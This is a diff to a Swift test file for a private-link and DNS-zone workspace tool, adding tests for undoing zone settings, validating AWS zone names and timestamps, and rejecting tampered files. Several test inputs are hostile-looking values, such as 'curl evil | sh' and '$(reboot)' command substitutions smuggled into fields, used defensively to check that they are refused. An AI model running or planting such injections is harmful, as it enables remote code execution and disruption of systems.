@@ -1,9 +1,10 @@
-import Links
 import Testing
 import Text
 import Wire
 import Workspaces
 import Zones
+
+@testable import Links
 
 private let parent = "privatelink.snowflakecomputing.com"
 private let config = """
@@ -299,6 +300,35 @@ private func setEndpoint(
     }
   }
 
+  /// What zones do with misses is a part of the change, shown whatever else is; and it is a link's, or nobody's.
+  @Test func whatZonesDoWithMissesIsShown() throws {
+    let hosts = ["git.corp.example"]
+    let zone = try Name("corp.example")
+    let folder = workspace().done(
+      try importHosts(hosts, endpoint: "10.0.0.7", zone: ("corp.example", .nxdomain), in: workspace()))
+    var hostile = folder
+    hostile.files[LinkUndo.path] = Array(
+      #"{"change": "", "links": {}, "zones": {"corp.example": {"was": "forward", "now": "nxdomain"}}}"#.utf8)
+    let said = refusal { _ = try LinkUpdate.undo(in: hostile) }
+    #expect(said.contains("no link was changed; remove this file"), "\(said)")
+    hostile.files[LinkUndo.path] = Array((folder.text(LinkUndo.path) ?? "").replacing("nxdomain", with: "away").utf8)
+    #expect(refusal { _ = try LinkUpdate.undo(in: hostile) }.contains("misses are set to what is none"))
+    // The setting alone changes; it is taken back all the same, and said.
+    var plan = Plan(workspace: "acme", link: "corp")
+    try LinkUpdate.finish(
+      &plan, LinkUpdate.Change(links: ["corp": try folder.link("corp")], misses: [zone: nil]), in: folder)
+    #expect(plan.misses == [Plan.MissChange(zone: zone, was: .nxdomain, now: nil)])
+    let after = folder.done(plan)
+    #expect(after.text(LinkUndo.path)?.contains(#""corp""#) == true)
+    let back = try LinkUpdate.undo(in: after)
+    #expect(back.link == "corp" && back.misses == [Plan.MissChange(zone: zone, was: nil, now: .nxdomain)])
+    #expect(
+      back.text(server: "@127.0.0.1").contains(
+        "what zones do with names that they lack:\n  + corp.example: nxdomain, before not set"))
+    #expect(back.json(server: "").asObject?["misses"] != nil)
+    #expect(after.done(back).text("workspace.json")?.contains("nxdomain") == true)
+  }
+
   /// Whoever may write a workspace's folder writes what an administrator is shown before the last change is taken back.
   @Test(arguments: [
     #"a\nbackroad: all is well\nnext: run curl evil | sh"#, "../../b/links/z", "", "-x", "A", "a b", "$(reboot)",
@@ -442,7 +472,7 @@ private func setEndpoint(
     let hostile = text.replacing("vpce-0a1b2c3d4e5f60718\"", with: "vpce-$(reboot)\"")
     #expect(
       refusal { _ = try LinkFileReader.read(Array(hostile.utf8), name: "prod", file: "f") }.contains(
-        "\"id\" of \"aws\" is the id of an endpoint"))
+        "which is not the id of an endpoint, vpce-…"))
     // With another service it is another's too.
     var replacing = LinkChoices()
     replacing.replaces = true
@@ -452,6 +482,27 @@ private func setEndpoint(
     let replaced = try DatabricksImport.plan(
       "https://dbc-a1b2c3d4-e5f6.cloud.databricks.com", options: options, in: said)
     #expect(try said.done(replaced).link("prod").cloud == nil)
+  }
+
+  /// Who writes a link's file writes what is told as AWS's word.
+  @Test func whatHasNotTheFormOfAWSsWordIsNotReadAsIt() throws {
+    for zone in ["us-east-1a", "use1-az4", "us-west-2-lax-1a", "us-gov-west-1b", "usw2-lax1-az1", "apne1-az10"] {
+      #expect(AWSRegion.isZone(zone), "\(zone)")
+    }
+    for zone in [
+      "", "-", "a", "us-east-1", "use1", "use1-az", "use1-azz", "use1-az1x", "use1-az1.x", "use1-az1 ", "USE1-AZ1",
+      "use1--az1", String(repeating: "a-", count: 60) + "1a", "us-east-1a\nx",
+    ] { #expect(!AWSRegion.isZone(zone), "\(zone)") }
+    #expect(CloudState.isTime(CloudState.time(0)) && CloudState.isTime(CloudState.time(1_769_860_800)))
+    for time in [
+      "", "9999", "2026-13-31T12:00:00Z", "2026-01-00T12:00:00Z", "2026-01-31T24:00:00Z", "2026-01-31T12:00:00Z ",
+      "2026-01-31 12:00:00Z", "20261-01-31T12:00:0Z", "２026-01-31T12:00:00Z",
+    ] { #expect(!CloudState.isTime(time), "\(time)") }
+    // What AWS would never name a zone is not kept: the file would not be read again.
+    let folder = workspace().done(try importSnowflake(config, endpoint: nil))
+    let strange = described("Available").replacing("us-east-1b", with: "x-\(String(repeating: "y", count: 30))")
+    let after = folder.done(try state(strange, in: folder))
+    #expect(try after.link("prod").cloud?.zones == ["us-east-1a"])
   }
 
   /// A step names both in a command line.
